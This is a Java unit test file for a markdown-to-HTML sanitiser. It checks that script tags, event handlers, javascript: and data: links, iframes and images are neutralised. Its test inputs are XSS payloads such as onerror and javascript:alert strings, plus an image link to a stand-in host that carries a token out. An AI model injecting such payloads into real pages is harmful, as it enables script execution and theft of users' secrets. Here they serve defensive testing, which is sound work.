package com.sintra.base.ui;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.select.Elements;
import org.junit.jupiter.api.Test;

class SafeMarkdownTest {

    @Test
    void markdown_becomes_html() {
        String html = SafeMarkdown.toHtml("**Offline answer** — quoted.\n\n> Refunds take five days. [1]\n\n- one\n- two");
        assertThat(html).contains("<strong>Offline answer</strong>").contains("<blockquote>")
                .contains("Refunds take five days. [1]").contains("<li>one</li>");
    }

    @Test
    void code_blocks_lists_and_tables_render_and_a_table_cell_stays_safe() {
        String html = SafeMarkdown.toHtml("""
                1. first
                2. second

                ```java
                if (a < b) { run(); }
                ```

                | Plan | Price |
                |------|------:|
                | Basic | <script>alert(1)</script> |
                """);
        var body = Jsoup.parseBodyFragment(html).body();
        assertThat(body.select("ol > li")).hasSize(2);
        assertThat(body.select("pre > code").text()).isEqualTo("if (a < b) { run(); }");
        assertThat(body.select("table th")).extracting(e -> e.text()).containsExactly("Plan", "Price");
        assertThat(body.select("table td").get(1).text()).isEqualTo("<script>alert(1)</script>");
        assertThat(body.select("script")).isEmpty();
    }

    @Test
    void script_tags_are_shown_as_text_never_run() {
        String html = SafeMarkdown.toHtml("Hello <script>alert('x')</script>\n\n<script>alert(1)</script>");
        assertThat(Jsoup.parseBodyFragment(html).select("script")).isEmpty();
        assertThat(html).contains("&lt;script&gt;");
    }

    @Test
    void event_handler_attributes_are_neutralised() {
        String html = SafeMarkdown.toHtml("<img src=x onerror=alert(1)>\n\ntext <b onmouseover=\"alert(1)\">bold</b>");
        Elements elements = Jsoup.parseBodyFragment(html).body().select("*");
        assertThat(elements.select("img")).isEmpty();
        assertThat(elements.stream().flatMap(e -> e.attributes().asList().stream()).map(a -> a.getKey()))
                .noneMatch(name -> name.startsWith("on"));
    }

    @Test
    void javascript_links_lose_their_target() {
        String html = SafeMarkdown.toHtml("[click me](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=)"
                + " and <a href=\"javascript:alert(2)\">raw</a>");
        assertThat(Jsoup.parseBodyFragment(html).select("a").eachAttr("href")).isEmpty();
        assertThat(html).contains("click me")
                // The raw anchor is shown as text, not made into a link.
                .contains("&lt;a href=\"javascript:alert(2)\"&gt;raw&lt;/a&gt;");
    }

    @Test
    void web_links_are_kept_without_referrer_or_ranking() {
        String html = SafeMarkdown.toHtml("See [the docs](https://example.com/docs).");
        assertThat(html).contains("href=\"https://example.com/docs\"").contains("rel=\"nofollow noopener noreferrer\"");
    }

    @Test
    void markdown_images_are_dropped_so_nothing_is_fetched_unasked() {
        String html = SafeMarkdown.toHtml("![secret](https://evil.example/pixel?q=token)");
        assertThat(html).doesNotContain("<img").doesNotContain("evil.example");
    }

    @Test
    void html_that_got_past_the_renderer_is_still_cleaned() {
        String html = SafeMarkdown.clean("<p onclick=\"x()\">hi<script>alert(1)</script><img src=x onerror=alert(1)>"
                + "<a href=\"javascript:alert(1)\">js</a><a href=\"https://example.com\">web</a><iframe src=\"https://evil\"></iframe></p>");
        assertThat(html).isEqualTo("<p>hi<a rel=\"nofollow noopener noreferrer\" target=\"_blank\">js</a>"
                + "<a href=\"https://example.com\" rel=\"nofollow noopener noreferrer\" target=\"_blank\">web</a></p>");
    }

    @Test
    void no_text_is_an_empty_fragment() {
        assertThat(SafeMarkdown.toHtml(null)).isEmpty();
    }
}
